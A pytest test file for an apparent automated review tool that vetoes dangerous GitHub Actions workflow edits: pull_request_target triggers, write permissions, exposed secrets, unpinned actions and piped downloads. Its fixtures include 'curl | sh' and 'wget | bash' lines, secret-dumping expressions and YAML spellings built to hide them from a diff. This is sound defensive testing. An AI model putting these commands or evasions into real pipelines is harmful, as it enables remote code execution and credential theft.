"""Each change that no approval may carry is named, in all its spellings, and no harmless change is (review §8.2)."""

from dataclasses import replace

import pytest

from autoswe.rules.review.diff.changed_files import EXECUTABLE, LINK, REGULAR, SUBMODULE, ChangedFile
from autoswe.rules.review.vetoes.findings import VetoRule
from autoswe.rules.review.vetoes.judgement import MAX_STRUCTURE_CHARACTERS, find_vetoes
from tests.support.review.changes import added_to, changed

CI = ".github/workflows/ci.yml"
SHA = "0123456789abcdef0123456789abcdef01234567"
WORKFLOW = f"""\
name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions: {{}}
jobs:
  build:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@{SHA} # v4.1.1
      - name: Build
        run: make build
  publish:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@{SHA} # v4.1.1
      - name: Publish
        run: make publish
        env:
          TOKEN: ${{{{ secrets.PUBLISH_TOKEN }}}}
"""
ACTION = """\
name: Set up
description: Sets things up.
inputs:
  version:
    description: Which version.
    required: true
  cache:
    description: Whether to keep things.
    default: "true"
outputs:
  path:
    description: Where it is.
    value: ${{ steps.x.outputs.path }}
runs:
  using: composite
  steps:
    - id: x
      run: ./set-up.sh
      shell: bash
"""


def rules(*files: ChangedFile, live: bool = False) -> set[VetoRule]:
    return {veto.rule for veto in find_vetoes(files, sides_required=live)}


def both_ways(path: str, old: str | None, new: str | None) -> tuple[set[VetoRule], set[VetoRule]]:
    """Judge a change by its patch alone, and with both sides read."""
    return rules(changed(path, old, new)), rules(changed(path, old, new, sides=True), live=True)


def edited(*replacements: tuple[str, str], text: str = WORKFLOW) -> str:
    for old, new in replacements:
        assert old in text
        text = text.replace(old, new, 1)
    return text


def indented_by_four(text: str) -> str:
    lines = [" " * (len(line) - len(line.lstrip())) + line for line in text.split("\n")]
    return "\n".join(lines).replace("- ", "-   ")


WIDENED = {
    VetoRule.PULL_REQUEST_TARGET: [
        ("  pull_request:\n", "  pull_request:\n  pull_request_target:\n"),
        ("  pull_request:\n", "  pull_request:\n  'pull_request_target':\n    types: [opened]\n"),
        ("  pull_request:\n", "  pull_request:\n  pull_request_target : {types: [opened]}\n"),
        ("on:\n  push:\n    branches: [main]\n  pull_request:\n", "on: [push, pull_request_target]\n"),
        ("on:\n  push:\n    branches: [main]\n  pull_request:\n", 'on: "pull_request_target"\n'),
        ("on:\n  push:\n    branches: [main]\n  pull_request:\n", '"on" : {pull_request_target: {}}\n'),
        ("on:\n  push:\n    branches: [main]\n  pull_request:\n", "on:\n- push\n- pull_request_target\n"),
        ("on:\n  push:\n    branches: [main]\n  pull_request:\n", "on: [\n  push,\n  pull_request_target,\n]\n"),
    ],
    VetoRule.WRITE_PERMISSION: [
        ("      contents: read\n", "      contents: write\n"),
        ("      contents: read\n", '      "contents" : "write"\n'),
        ("      contents: read\n", "      contents:   'write'   # needed\n"),
        ("      contents: read\n", "      contents:\n        write\n"),
        ("      contents: read\n", "      contents: read\n      id-token: write\n"),
        ("      contents: read\n", "      contents: read\n      newer-than-any-list: write\n"),
        ("    permissions:\n      contents: read\n", "    permissions: write-all\n"),
        ("    permissions:\n      contents: read\n", "    permissions:\n      write-all\n"),
        ("    permissions:\n      contents: read\n", "    permissions: {contents: read, issues: write}\n"),
        ("    permissions:\n      contents: read\n", '    permissions: { "issues":"write" }\n'),
        ("    permissions:\n      contents: read\n", "    permissions: {\n      issues: write,\n    }\n"),
    ],
    VetoRule.PERMISSIONS_REMOVED: [
        ("permissions: {}\n", ""),
        ("permissions: {}\n", "permissions:\n  contents: read\n"),
    ],
    VetoRule.SECRET: [
        ("        run: make build\n", "        run: make build ${{ secrets.TOKEN }}\n"),
        ("        run: make build\n", "        run: make build ${{ Secrets['TOKEN'] }}\n"),
        ("        run: make build\n", "        run: make build ${{ secrets[format('{0}', 'T')] }}\n"),
        ("        run: make build\n", "        run: make build ${{ toJSON(secrets) }}\n"),
        ("        run: make build\n", "        run: make build ${{ join(secrets.*, ',') }}\n"),
        ("        run: make build\n", "        run: make build ${{ secrets . TOKEN }}\n"),
        ("        run: make build\n", "        run: make build ${{ secrets.GITHUB_TOKEN_2 }}\n"),
        ("        run: make build\n", "        run: >\n          make ${{\n          secrets\n          .TOKEN }}\n"),
        ("  build:\n", "  build:\n    secrets: inherit\n"),
        ("  build:\n", "  build:\n    'secrets':  \"inherit\"\n"),
        ("  build:\n", "  build:\n    secrets:\n      inherit\n"),
    ],
    VetoRule.UNPINNED_ACTION: [
        ("      - name: Build\n", "      - uses: some/action@v1\n      - name: Build\n"),
        ("      - name: Build\n", "      - uses: some/action\n      - name: Build\n"),
        ("      - name: Build\n", f"      - uses: some/action@{SHA[:39]}\n      - name: Build\n"),
        ("      - name: Build\n", f"      - uses: some/action@{SHA}0\n      - name: Build\n"),
        ("      - name: Build\n", "      - 'uses' : \"some/action@main\"\n      - name: Build\n"),
        ("      - name: Build\n", "      - {name: x, uses: some/action@main}\n      - name: Build\n"),
        ("      - name: Build\n", "      - uses:\n          some/action@main\n      - name: Build\n"),
        ("      - name: Build\n", "      - uses: >-\n          some/action@main\n      - name: Build\n"),
        (f"actions/checkout@{SHA} # v4.1.1\n      - name: Build", "actions/checkout@v4\n      - name: Build"),
    ],
    VetoRule.PIPED_DOWNLOAD: [
        ("        run: make build\n", "        run: curl -fsSL https://example.com/x | sh\n"),
        ("        run: make build\n", "        run: |\n          curl https://x \\\n            | sudo bash -\n"),
        ("        run: make build\n", "        run: >\n          wget -qO- https://example.com/x |\n          bash\n"),
    ],
}


@pytest.mark.parametrize(("rule", "old", "new"), [(rule, *edit) for rule, edits in WIDENED.items() for edit in edits])
def test_a_workflow_that_gains_what_no_approval_may_carry_is_vetoed(rule: VetoRule, old: str, new: str) -> None:
    by_patch, by_sides = both_ways(CI, WORKFLOW, edited((old, new)))
    assert rule in by_patch
    assert rule in by_sides


@pytest.mark.parametrize(
    "new",
    [
        '      - "\\x75ses": some/action@main\n',
        "      - uses: &where some/action@main\n",
        "      - ? uses\n        : some/action@main\n",
        "      - uses: !!str some/action@main\n",
        '      - name: "${{ \\x73ecrets.TOKEN }}"\n',
        "      - <<: {uses: some/action@main}\n",
        "      - run: &x make\n      - run: *x\n",
    ],
)
def test_a_spelling_that_a_diff_does_not_explain_is_vetoed_where_the_sides_were_not_read(new: str) -> None:
    file = changed(CI, WORKFLOW, edited(("      - name: Build\n", new + "      - name: Build\n")))
    assert rules(file)


@pytest.mark.parametrize(
    ("new", "rule"),
    [
        ('      - "\\x75ses": some/action@main\n', VetoRule.UNPINNED_ACTION),
        ("      - ? uses\n        : some/action@main\n", VetoRule.UNPINNED_ACTION),
        ("      - uses: !!str some/action@main\n", VetoRule.UNREADABLE_FILE),
        ("      - <<: {uses: some/action@main}\n", VetoRule.UNREADABLE_FILE),
        ("      - uses: some/action@main\n        uses: ./x\n", VetoRule.UNREADABLE_FILE),
        ('      - name: "${{ \\x73ecrets.TOKEN }}"\n', VetoRule.SECRET),
        ('      - run: "curl x \\x7c sh"\n', VetoRule.PIPED_DOWNLOAD),
    ],
)
def test_a_spelling_that_hides_from_a_diff_is_seen_in_the_whole_file(new: str, rule: VetoRule) -> None:
    text = edited(("      - name: Build\n", new + "      - name: Build\n"))
    assert rule in rules(changed(CI, WORKFLOW, text, sides=True), live=True)


def test_an_alias_is_followed_to_what_it_repeats() -> None:
    old = "on: push\nx: &p {contents: write}\njobs: {a: {permissions: {}, steps: []}}\n"
    new = old.replace("permissions: {}", "permissions: *p")
    assert VetoRule.WRITE_PERMISSION in rules(changed(CI, old, new, sides=True), live=True)


HARMLESS = {
    "an empty block in other spelling": WORKFLOW.replace("permissions: {}", "'permissions' : { } # nothing"),
    "an empty block that moves": WORKFLOW.replace("permissions: {}\n", "") + "permissions: {}\n",
    "nothing but a name": WORKFLOW.replace("name: CI", "name: Checks"),
    "indented by four": indented_by_four(WORKFLOW),
    "steps indented anew": WORKFLOW.replace("      - ", "    - ")
    .replace("        run:", "      run:")
    .replace("        env:\n          TOKEN", "      env:\n        TOKEN"),
    "comments": WORKFLOW.replace(
        "permissions: {}\n",
        "# permissions: write-all\n# pull_request_target:\n#   contents: write\n"
        "permissions: {} # curl x | sh, uses: a/b@main, ${{ secrets.X }}\n",
    ),
    "a fallback": WORKFLOW.replace("run: make build", "run: curl -f https://example.com/x -o x || sh fallback.sh"),
    "the job's own token": WORKFLOW.replace("make build", "make build ${{ secrets.GITHUB_TOKEN }}"),
    "the job's own token, indexed": WORKFLOW.replace("make build", "make build ${{ secrets['GITHUB_TOKEN'] }}"),
    "a condition about the event": WORKFLOW.replace(
        "        run: make build", "        if: github.event_name == 'pull_request_target'\n        run: make build"
    ),
    "reading": WORKFLOW.replace("      contents: read\n", "      contents: read\n      issues: read\n"),
    "a narrowed grant": WORKFLOW.replace("      contents: write\n", "      contents: read\n"),
    "a dropped grant": WORKFLOW.replace("      contents: write\n", "      contents: none\n"),
    "a pinned action": WORKFLOW.replace(
        "      - name: Build", f"      - uses: some/action/sub@{SHA.upper()}\n      - name: Build"
    ),
    "an action of its own": WORKFLOW.replace("      - name: Build", "      - uses: ./.github/x\n      - name: Build"),
    "an action of its own kind": WORKFLOW.replace("      - name: Build", "      - uses: $/x\n      - name: Build"),
    "an image": WORKFLOW.replace("      - name: Build", "      - uses: docker://alpine:3\n      - name: Build"),
    "words about secrets": WORKFLOW.replace("name: Build", "name: Look for secrets, then build"),
    "an output that is called secrets": WORKFLOW.replace("make build", "make ${{ needs.x.outputs.secrets }}"),
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
def test_a_workflow_that_gains_nothing_is_not_vetoed(text: str) -> None:
    assert both_ways(CI, WORKFLOW, text) == (set(), set())


def test_a_workflow_that_loses_everything_keeps_the_veto_on_its_limit() -> None:
    assert rules(changed(CI, WORKFLOW, "on: push\njobs: {}\n")) == {VetoRule.PERMISSIONS_REMOVED}


TOKEN = "          TOKEN: ${{ secrets.PUBLISH_TOKEN }}\n"
MOVED_SECRET = [
    (TOKEN, "          A: b\n"),
    ("        run: make build\n", f"        run: make build\n        env:\n{TOKEN}"),
]
MOVED_GRANT = [
    ("      contents: write\n", "      contents: none\n"),
    ("      contents: read\n", "      contents: write\n"),
]


@pytest.mark.parametrize(("edits", "rule"), [(MOVED_SECRET, VetoRule.SECRET), (MOVED_GRANT, VetoRule.WRITE_PERMISSION)])
@pytest.mark.parametrize("context", [3, 100])
def test_what_moves_to_another_job_is_new_there(edits: list[tuple[str, str]], rule: VetoRule, context: int) -> None:
    new = edited(*edits)
    assert rule in rules(changed(CI, WORKFLOW, new, context=context))
    assert rule in rules(changed(CI, WORKFLOW, new, sides=True), live=True)


def test_an_unpinned_step_that_moves_to_another_job_is_new_there() -> None:
    old = "on: push\njobs:\n  a:\n    steps:\n    - uses: x/y@v1\n    - run: a\n  b:\n    steps:\n    - run: b\n"
    new = "on: push\njobs:\n  a:\n    steps:\n    - run: a\n  b:\n    steps:\n    - uses: x/y@v1\n    - run: b\n"
    assert both_ways(CI, old, new) == ({VetoRule.UNPINNED_ACTION}, {VetoRule.UNPINNED_ACTION})


def test_a_job_that_loses_its_own_narrower_permissions_gains_the_workflows() -> None:
    old = "on: push\npermissions:\n  contents: write\njobs:\n  a:\n    permissions: {contents: read}\n    steps: []\n"
    new = old.replace("    permissions: {contents: read}\n", "")
    assert VetoRule.WRITE_PERMISSION in rules(changed(CI, old, new, sides=True), live=True)


def test_a_workflow_that_loses_its_only_permissions_widens_to_the_defaults() -> None:
    old = "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    steps: []\n"
    new = old.replace("permissions:\n  contents: read\n", "")
    assert VetoRule.PERMISSIONS_REMOVED in rules(changed(CI, old, new, sides=True), live=True)


@pytest.mark.parametrize(
    "edit",
    [
        ('  cache:\n    description: Whether to keep things.\n    default: "true"\n', ""),
        ("  cache:\n", "  caching:\n"),
        ("  path:\n", "  where:\n"),
        ("outputs:\n  path:\n    description: Where it is.\n    value: ${{ steps.x.outputs.path }}\n", ""),
    ],
)
def test_an_action_that_loses_or_renames_an_input_or_output_is_vetoed(edit: tuple[str, str]) -> None:
    by_patch, by_sides = both_ways("action.yml", ACTION, edited(edit, text=ACTION))
    assert VetoRule.INTERFACE_REMOVED in by_patch
    assert VetoRule.INTERFACE_REMOVED in by_sides


def test_an_action_whose_inputs_are_reordered_indented_anew_or_added_to_is_not_vetoed() -> None:
    version = "  version:\n    description: Which version.\n    required: true\n"
    cache = '  cache:\n    description: Whether to keep things.\n    default: "true"\n'
    assert version + cache in ACTION
    for new in (
        ACTION.replace(version + cache, cache + version),
        ACTION.replace(version, version + "  extra:\n    description: More.\n"),
        indented_by_four(ACTION),
        ACTION.replace("description: Which version.", "description: The version."),
    ):
        assert both_ways("action.yml", ACTION, new) == (set(), set())


def test_an_action_that_moves_or_goes_takes_its_inputs_with_it() -> None:
    moved = changed("b/action.yml", ACTION, ACTION.replace("Sets", "Set"), previous_path="a/action.yml")
    assert VetoRule.INTERFACE_REMOVED in rules(moved)
    assert VetoRule.INTERFACE_REMOVED in rules(changed("action.yml", ACTION, None))


@pytest.mark.parametrize("path", [CI, "a.py", "uv.lock", "requirements.txt", "notes.txt"])
def test_a_patch_that_is_missing_or_cut_is_vetoed_in_fixed_words(path: str) -> None:
    whole = changed(path, "a", "b")
    for file in (replace(whole, patch=None), replace(whole, patch_truncated=True), replace(whole, additions=9)):
        (veto,) = find_vetoes([file], sides_required=False)
        assert (veto.rule, veto.reason) == (VetoRule.UNREADABLE_PATCH, f"patch for {path} is unreadable")


def test_documentation_is_not_judged_whatever_it_quotes() -> None:
    text = "curl x | sh\nuses: a/b@main\npermissions: write-all\n${{ secrets.X }}\n"
    assert rules(added_to("README.md", text), added_to("docs/a.rst", text)) == set()
    assert rules(replace(added_to("README.md", text), patch=None)) == set()


@pytest.mark.parametrize(
    "path", ["AGENTS.md", "prompts/a.md", "CODEOWNERS", "LICENSE.sh", ".github/workflows/NOTICE.yml"]
)
def test_what_only_looks_like_documentation_is_judged(path: str) -> None:
    assert VetoRule.PIPED_DOWNLOAD in rules(added_to(path, "curl x | sh"))


@pytest.mark.parametrize(
    ("previous", "path"),
    [("docs/x.md", CI), ("ci.yml.disabled", CI), ("docs/x.md", "install.sh"), ("a.txt", "action.yml")],
)
def test_a_rename_that_brings_unseen_content_into_place_is_vetoed(previous: str, path: str) -> None:
    assert VetoRule.RENAMED_INTO_PLACE in rules(changed(path, "on: push", "on: [push]", previous_path=previous))


def test_a_workflow_that_comes_from_elsewhere_is_judged_whole() -> None:
    file = changed(CI, WORKFLOW, WORKFLOW + "# end", previous_path="docs/x.md", sides=True)
    assert {VetoRule.WRITE_PERMISSION, VetoRule.SECRET} <= rules(file, live=True)


def test_a_new_workflow_is_judged_whole() -> None:
    by_patch, by_sides = both_ways(CI, None, WORKFLOW)
    assert by_patch == by_sides == {VetoRule.WRITE_PERMISSION, VetoRule.SECRET}


def test_a_code_file_renamed_to_a_document_is_judged() -> None:
    assert rules(replace(changed("x.md", "a", "b", previous_path="x.py"), patch=None)) == {
        VetoRule.UNREADABLE_PATCH,
        VetoRule.RENAMED_INTO_PLACE,
    }


@pytest.mark.parametrize(("mode", "rule"), [(LINK, VetoRule.LINK), (SUBMODULE, VetoRule.SUBMODULE)])
@pytest.mark.parametrize("path", ["README.md", "x"])
def test_links_and_submodules_are_vetoed_whatever_their_name(mode: str, rule: VetoRule, path: str) -> None:
    assert rule in rules(changed(path, "a", "b", sides=True, modes=(REGULAR, mode)))


def test_a_submodule_is_known_by_its_patch_alone() -> None:
    file = changed("README.md", f"Subproject commit {SHA}", f"Subproject commit {SHA[::-1]}")
    assert VetoRule.SUBMODULE in rules(file)


@pytest.mark.parametrize("path", [CI, "action.yml", "package.json", "uv.lock", "requirements.txt", "Dockerfile"])
def test_a_live_run_must_have_read_both_sides_of_what_has_a_structure(path: str) -> None:
    file = changed(path, "a: b", "a: c", sides=True)
    assert VetoRule.UNREAD_SIDE not in rules(file, live=True)
    assert file.base
    assert VetoRule.UNREAD_SIDE in rules(replace(file, base=None), live=True)
    assert VetoRule.UNREAD_SIDE in rules(replace(file, head=None), live=True)
    assert VetoRule.UNREAD_SIDE in rules(replace(file, base=replace(file.base, text=None)), live=True)
    assert VetoRule.UNREAD_SIDE not in rules(replace(file, base=None), live=False)


def test_a_side_that_cannot_exist_need_not_be_read() -> None:
    assert rules(changed("uv.lock", None, "a", sides=True), live=True) == set()
    assert rules(changed("uv.lock", "a", None, sides=True), live=True) == set()


@pytest.mark.parametrize("text", ["a: [", "a: 1\na: 2", "- a", "just words"])
def test_a_workflow_that_cannot_be_read_is_vetoed_on_either_side(text: str) -> None:
    assert VetoRule.UNREADABLE_FILE in rules(changed(CI, WORKFLOW, text, sides=True), live=True)
    assert VetoRule.UNREADABLE_FILE in rules(changed(CI, text, "on: push", sides=True), live=True)


def test_more_workflows_than_can_be_judged_are_vetoed() -> None:
    text = "on: push\n" + "# padding\n" * 20_000
    files = [changed(f".github/workflows/{n}.yml", text, text + "a: b\n", sides=True) for n in range(8)]
    assert sum(len(side.text or "") for file in files for side in file.sides) > MAX_STRUCTURE_CHARACTERS
    assert rules(files[0], live=True) == set()
    assert rules(*files, live=True) == {VetoRule.UNREADABLE_FILE}


def test_a_status_that_is_not_understood_is_unreadable() -> None:
    assert VetoRule.UNREADABLE_PATCH in rules(replace(changed("a.py", "a", "b"), status="transmogrified"))
    assert VetoRule.RENAMED_INTO_PLACE in rules(replace(changed("a.py", "a", "b"), status="copied"))


def test_an_executable_that_stays_one_is_no_veto() -> None:
    assert rules(changed("x.sh", "a", "b", sides=True, modes=(EXECUTABLE, EXECUTABLE)), live=True) == set()


def test_each_veto_is_given_once_with_its_file() -> None:
    file = added_to("x.sh", "curl x | sh", "curl x | sh")
    (veto,) = find_vetoes([file, file], sides_required=False)
    assert veto.path == "x.sh"
    assert veto.reason == "x.sh adds a download that is run: curl x | sh"


def test_a_download_that_was_run_before_and_is_only_indented_is_no_veto() -> None:
    assert rules(changed("x.sh", "if a; then\ncurl x | sh\nfi", "if a; then\n  curl x | sh\nfi")) == set()
